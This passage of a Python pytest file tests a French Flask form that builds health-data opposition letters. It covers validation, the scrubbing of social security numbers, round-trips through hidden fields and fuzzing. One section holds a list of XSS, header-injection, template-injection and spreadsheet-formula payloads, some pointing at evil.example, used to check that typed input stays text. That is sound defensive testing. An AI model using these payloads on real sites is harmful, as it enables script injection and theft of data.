    response = post(client, output, family_name="", birth_date="31/02/1958")
    assert check_errors(response) == {
        "family_name": "Indiquez votre nom, par exemple Durand.",
        "birth_date": NO_DAY,
    }
    assert "Content-Disposition" not in response.headers


def test_all_errors_are_told_at_once_in_the_order_of_the_form(client: CheckingClient) -> None:
    first: dict[str, tuple[str, str]] = {}
    for name, value, sentence in BAD:
        first.setdefault(name, (value, sentence))
    first["postal_code"] = ("B" * 13, SHORTEN.format(12, 13))  # a country excuses the other one
    answers = {name: value for name, (value, _) in first.items()}
    found = check_errors(client.post(FORM, data=answers))
    assert found == {name: fr(sentence) for name, (_, sentence) in first.items()}
    page = parse(client.post(FORM, data=answers).text)
    links = [str(link["href"])[1:] for link in page.select(".error-summary a")]
    order = [str(tag["id"]) for tag in page.select("form :is(input, select, textarea)")]
    assert links == sorted(links, key=order.index)


def test_the_table_covers_every_field_and_every_sentence_of_the_form() -> None:
    """A new message in forms.py that no row of `BAD` gives makes this fail."""
    assert {name for name, *_ in BAD} == FIELDS - {"options"}
    said = [fr(sentence) for *_, sentence in BAD] + [NEEDED_LINES, NIR_MESSAGE]
    templates = error_templates()
    assert len(templates) >= 17
    for template in templates:
        pattern = re.sub(r"%\\?\(\w+\\?\)[sd]", ".+", re.escape(template)).replace(r"\ ", ".")
        assert any(re.fullmatch(pattern, sentence) for sentence in said), template


def error_templates() -> set[str]:
    """Every message of forms.py that is no label, no hint and no choice: it refuses an answer."""
    tree = ast.parse(Path(forms.__file__).read_text(encoding="utf-8"))
    fields = [field for field in vars(LetterForm).values() if hasattr(field, "field_class")]
    asked = {
        text
        for field in fields
        for text in (*field.args, *field.kwargs.values())
        if isinstance(text, str)
    }
    choices = [
        node
        for node in ast.walk(tree)
        if isinstance(node, ast.FunctionDef) and node.name == "recipient_choices"
    ]
    offered = {id(node) for top in choices for node in ast.walk(top)}
    return {
        str(node.args[0].value)
        for node in ast.walk(tree)
        if is_call(node, "_", "mark")
        and isinstance(node.args[0], ast.Constant)
        and id(node) not in offered
    } - asked


def is_call(node: ast.AST, *names: str) -> bool:
    called = isinstance(node, ast.Call) and isinstance(node.func, ast.Name)
    return called and node.func.id in names


@pytest.mark.parametrize("control", ["\x00", "\x01", "\x08", "\x1b", "\x1f", "\x7f", "\x9f"])
def test_a_control_character_is_refused_in_every_text_and_never_comes_back(
    client: CheckingClient, control: str
) -> None:
    response = post(client, **dict.fromkeys(TEXTS, f"ab{control}cd"))
    found = check_errors(response)
    assert set(found) == set(TEXTS)
    assert all("«\u00a0\ufffd\u00a0»" in sentence for sentence in found.values())
    assert control not in response.text


@pytest.mark.parametrize("sign", "字ش😀⛪")
def test_what_the_font_lacks_is_refused_and_named_in_every_text(
    client: CheckingClient, sign: str
) -> None:
    found = check_errors(post(client, **dict.fromkeys(TEXTS, f"ab{sign}")))
    assert set(found) == set(TEXTS)
    assert all(f"«\u00a0{sign}\u00a0»" in sentence for sentence in found.values())
    assert all("carte Vitale" in found[name] for name in NAMES)


@pytest.mark.parametrize(
    "name",
    [
        "Nguyễn Thị Ánh",
        "Łukasz Żółć",
        "Gwenaël Le Bihan-L’Hénoret",
        "Tuğba Şahin",
        "Ħamrun Ġorġ",
        "Ɛli Aɣilas",
        "Αλέξανδρος",
        "Юрий",
        "O'Neil d‘Arc ʻOkina",
        "Ô",
        "Anne  Marie",
        "Jean.",
    ],
)
@pytest.mark.parametrize("field", NAMES)
def test_every_name_in_the_three_alphabets_is_accepted(
    stranger: CheckingClient, field: str, name: str
) -> None:
    response = post(stranger, **{field: name})
    assert response.status_code == 200
    assert re.sub(" +", " ", name) in letter_of(response.text)[0]


def test_the_longest_answers_are_accepted(client: CheckingClient) -> None:
    answers = {"given_name": "é" * 100, "family_name": "W" * 100, "reason": ("x" * 99 + " ") * 14}
    answers |= {"address_line1": "é" * 38, "address_line2": "é" * 38, "city": "é" * 50}
    answers |= {"recipient": OTHER, "recipient_lines": "\r\n".join(["é" * 38] * 6)}
    answers |= {"email": "x" * 88 + "@example.org", "country": "é" * 38, "postal_code": "1" * 12}
    for output in ("preview", "text", "short", "edit"):
        assert post(client, output, **answers).status_code == 200


# The social security number

NIR = "1 85 05 75 123 456 78"
DIGITS = "185057512345678"
NIR_MESSAGE = (
    "Ce texte contenait ce qui ressemble à un numéro de sécurité sociale. "
    "Nous l’avons retiré\u00a0: ce site ne doit jamais le recevoir. "
    "Vous pourrez l’écrire à la main sur la lettre imprimée."
)


def has_number(response: TestResponse) -> bool:
    return DIGITS[:13] in re.sub(r"[\W_]", "", response.text)


@pytest.mark.parametrize("number", [NIR, DIGITS, DIGITS[:13], "2-91-12-2A-123-456-78"])
@pytest.mark.parametrize("output", OUTPUTS)
def test_a_number_of_social_security_never_comes_back_from_any_text(
    stranger: CheckingClient, caplog: pytest.LogCaptureFixture, output: str, number: str
) -> None:
    caplog.set_level(0)
    response = post(stranger, output, **dict.fromkeys(TEXTS, f"ab {number} cd"))
    assert not has_number(response)
    assert "123456" not in re.sub(r"\W", "", response.text)
    values = shown(response.text)
    assert {values[name] for name in TEXTS} == {"ab … cd"}
    assert "123" not in caplog.text
    if output != "edit":
        assert check_errors(response) == dict.fromkeys(TEXTS, NIR_MESSAGE)


@pytest.mark.parametrize("name", TEXTS)
def test_a_number_in_one_text_is_enough_to_refuse_the_letter(app: Flask, name: str) -> None:
    for output in set(OUTPUTS) - {"edit"}:
        response = app.test_client().post(FORM, data={**WHOLE, name: NIR, "output": output})
        assert response.status_code == 422
        assert not has_number(response)


@pytest.mark.parametrize("name", ["postal_code", "birth_date", "family_name"])
def test_a_number_alone_in_a_field_is_refused_as_one(client: CheckingClient, name: str) -> None:
    response = post(client, **{name: NIR})
    assert check_errors(response) == {name: NIR_MESSAGE}
    assert shown(response.text)[name] == "…"


def test_a_number_taken_out_while_editing_is_explained(client: CheckingClient) -> None:
    """« Voir et corriger l’adresse » takes it out as well; the person has to know."""
    response = post(client, "edit", reason=f"Mon numéro est le {NIR}.")
    assert sentences(parse(response.text)) == {"reason": NIR_MESSAGE}


@pytest.mark.parametrize("name", ["recipient", "output", "unknown", "options"])
def test_a_number_outside_the_texts_does_not_come_back_either(
    client: CheckingClient, name: str
) -> None:
    response = post(client, **{name: NIR})
    assert not has_number(response)


def test_several_numbers_in_several_fields_are_all_taken_out(client: CheckingClient) -> None:
    response = post(client, reason=f"{NIR}\r\n{NIR}", city=NIR, email=f"{DIGITS}@example.org")
    assert set(check_errors(response)) == {"reason", "city", "email"}
    assert not has_number(response)


# The form's own fields are the state


def browser_round_trip(client: CheckingClient, answers: dict[str, Any]) -> None:
    preview = client.post(FORM, data=answers)
    assert preview.status_code == 200
    carried = hidden(preview.text)
    for output in ("edit", "text", "short", "preview"):
        again = MultiDict(carried)
        again["output"] = output
        direct = client.post(FORM, data={**answers, "output": output})
        assert client.post(FORM, data=again).data == direct.data


@pytest.mark.parametrize(
    "answers",
    [
        PERSON,
        WHOLE,
        {**WHOLE, "options": [], "country": "Belgique", "postal_code": "B-1000"},
        {**PERSON, "recipient": OTHER, "recipient_lines": "MSA\r\n29412 Landerneau"},
        {**PERSON, "reason": '"Guillemets" & <chevrons>\r\n\r\n  ((name)) [si cnil] ’'},
        {**PERSON, "reason": "\r\n\r\nLigne\r\n\r\n\r\n\r\nLigne\r\n"},
    ],
)
def test_the_result_page_carries_every_answer(
    stranger: CheckingClient, answers: dict[str, Any]
) -> None:
    browser_round_trip(stranger, answers)


def test_the_pdf_is_the_same_from_the_form_and_from_the_result_page(client: CheckingClient) -> None:
    carried = hidden(client.post(FORM, data=WHOLE).text)
    carried["output"] = "pdf"
    direct = client.post(FORM, data={**WHOLE, "output": "pdf"})
    assert direct.data.startswith(b"%PDF-")
    assert client.post(FORM, data=carried).data == direct.data


def test_the_form_edited_and_sent_again_gives_the_same_letter(stranger: CheckingClient) -> None:
    edited = shown(stranger.post(FORM, data={**WHOLE, "output": "edit"}).text)
    edited["recipient_lines"] = edited["recipient_lines"].replace("\n", "\r\n")
    edited["reason"] = edited["reason"].replace("\n", "\r\n")
    again = stranger.post(FORM, data=edited)
    assert letter_of(again.text) == letter_of(stranger.post(FORM, data=WHOLE).text)


names = st.text(sorted(forms.NAME_CHARACTERS), min_size=1, max_size=20)
prose = st.text(sorted(forms.LETTERS | set(" \n\"'<>&;{}()[]%\\$é…’\u00a0\u202f")), max_size=80)


@bounded
@given(
    given_name=names,
    family_name=names,
    reason=prose,
    city=prose,
    ticked=st.sets(st.sampled_from(OPTIONS)),
)
def test_any_accepted_answers_survive_the_round_trip(
    app: Flask, given_name: str, family_name: str, reason: str, city: str, ticked: set[str]
) -> None:
    client = app.test_client()
    answers = {**PERSON, "given_name": given_name, "family_name": family_name, "city": city}
    answers |= {"reason": reason.replace("\n", "\r\n"), "options": sorted(ticked)}
    preview = client.post(FORM, data=answers)
    if preview.status_code == 422:
        assert sentences(parse(preview.text))
        return
    carried = hidden(preview.text)
    for output in ("edit", "text"):
        again = MultiDict(carried)
        again["output"] = output
        direct = client.post(FORM, data={**answers, "output": output})
        assert client.post(FORM, data=again).data == direct.data


# Nothing typed is ever markup

PAYLOADS = [
    "<script>alert('{}')</script>",
    "</textarea><script>alert('{}')</script>",
    "</title></head><body><h1>{}</h1>",
    '"><img src=x onerror=alert("{}")>',
    "'><svg/onload=alert('{}')>",
    '" autofocus onfocus="{}',
    "</article></form><form action=//evil.example>{}",
    "<!-- {} ",
    "]]> {} <![CDATA[",
    "javascript:alert('{}')",
    "&lt;b&gt; &#60;{}&#62; &quot;&amp",
    "{{{{ 7*7 }}}}{} {{% raw %}} ${{7*7}} #{{7*7}}",
    "((name)) [si cnil] ((reason)) {} === version courte ===",
    "%s %(limit)d %n {} %% %",
    '\\"; </style><style>*{{color:red}} {} url(//evil.example)',
    "= {} +cmd|' /C calc'!A0",
    "\r\nSet-Cookie: a={}\r\n\r\n<b>x",
    "$& $1 \\1 \\g<0> {}",
]
WATCHED = ["a", "b", "base", "button", "form", "iframe", "img", "input", "link", "meta", "option"]
WATCHED += ["script", "select", "style", "svg", "textarea"]


def elements(text: str) -> Counter[str]:
    return Counter(tag.name for tag in parse(text).find_all(WATCHED))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markup_in_every_field_of_the_form_stays_text(
    stranger: CheckingClient, payload: str
) -> None:
    typed = {name: payload.format(f"zz{name}") for name in TEXTS}
    plain = dict.fromkeys(TEXTS, "字")
    for output, status in (("edit", 200), ("preview", 422), ("text", 422)):
        response = stranger.post(FORM, data={**typed, "recipient": payload, "output": output})
        assert response.status_code == status
        expected = elements(stranger.post(FORM, data={**plain, "output": output}).text)
        found = elements(response.text)
        found["a"] = expected["a"]  # a field less, or more, in the summary
        assert found == expected
        for name, value in shown(response.text).items():
            if name in TEXTS:
                assert re.sub(r"\s+", " ", value) == re.sub(r"\s+", " ", typed[name]).strip()


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("name", ["reason", "city", "address_line1", "country", "recipient_lines"])
def test_markup_in_an_accepted_answer_stays_text_in_every_output(
    stranger: CheckingClient, payload: str, name: str
) -> None:
    value = payload.format("zz")
    response = post(stranger, **{name: value})
    if response.status_code == 422:
        check_errors(response)
        return
    folded = re.sub(r"\s+", " ", value).strip()
    expected = elements(post(stranger, **{name: "texte"}).text)
    assert elements(response.text) == expected
    assert folded in " ".join(letter_of(response.text))
    if name == "reason":
        assert folded in re.sub(r"\s+", " ", area_of(response.text, "message"))
        downloaded = post(stranger, "text", reason=value)
        assert downloaded.mimetype == "text/plain"
        assert folded in re.sub(r"\s+", " ", downloaded.data.decode())


@pytest.mark.parametrize("payload", PAYLOADS[:4] + PAYLOADS[10:15])
def test_markup_stays_text_in_the_pdf(
    stranger: CheckingClient, tmp_path: Path, payload: str
) -> None:
    response = post(stranger, "pdf", reason=payload.format("zz"), city="((name))")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="opposition-sante.pdf"'
    file = tmp_path / "lettre.pdf"
    file.write_bytes(response.data)
    with pdfplumber.open(file) as document:
        text = "".join("".join(page.extract_text().split()) for page in document.pages)
        assert [note for page in document.pages for note in page.annots] == []
    assert "".join(payload.format("zz").split()) in text
    assert "((name))" in text
    assert OFFICER.replace(" ", "") in text


# Anything at all

anything = st.one_of(
    st.text(max_size=60),
    st.text(sorted(forms.NAME_CHARACTERS), max_size=30),
    st.sampled_from(
        ["", "03/03/1958", "29200", "a@b.org", NIR, "\x00", "\ud800", "((name))", "%s"]
    ),
    st.integers().map(str),
)
codes = st.sampled_from(["", OTHER, *(body.code for body in load_recipients())])


@settings(bounded, max_examples=100)
@given(
    answers=st.dictionaries(st.sampled_from([*TEXTS, "options", "x"]), anything),
    recipient=codes | anything,
    output=st.sampled_from(OUTPUTS) | anything,
)
def test_any_text_in_any_field_is_answered(
    app: Flask, answers: dict[str, str], recipient: str, output: str
) -> None:
    data = {**answers, "recipient": recipient, "output": output}
    encoded = {name: value.encode("utf-8", "surrogatepass") for name, value in data.items()}
    response = app.test_client().post(FORM, data=encoded)
    assert response.status_code in {200, 422}


@settings(bounded, max_examples=20)  # a PDF takes a while
@given(
    given_name=names,
    reason=st.text(sorted(forms.NAME_CHARACTERS | set("0123456789<>&%(){}[]@\n")), max_size=200),
    address=st.text(sorted(forms.LETTERS | set("0123456789 ")), max_size=38),
    ticked=st.sets(st.sampled_from(OPTIONS)),
)
def test_any_accepted_text_gives_a_pdf(
    app: Flask, given_name: str, reason: str, address: str, ticked: set[str]
) -> None:
    answers = {**PERSON, "given_name": given_name, "reason": reason, "address_line1": address}
    response = app.test_client().post(
        FORM, data={**answers, "options": sorted(ticked), "output": "pdf"}
    )
    assert response.mimetype == ("application/pdf" if response.status_code == 200 else "text/html")
    assert response.status_code in {200, 422}


@bounded
@given(body=st.binary(max_size=300))
def test_any_body_is_answered(app: Flask, body: bytes) -> None:
    sent = {"content_type": "application/x-www-form-urlencoded"}
    assert app.test_client().post(FORM, data=body, **sent).status_code in {200, 400, 413, 422}


def test_today_is_the_day_in_paris(monkeypatch: pytest.MonkeyPatch) -> None:
    from letters.web import routes

    assert isinstance(routes.today(), date)
    assert str(routes.PARIS) == "Europe/Paris"
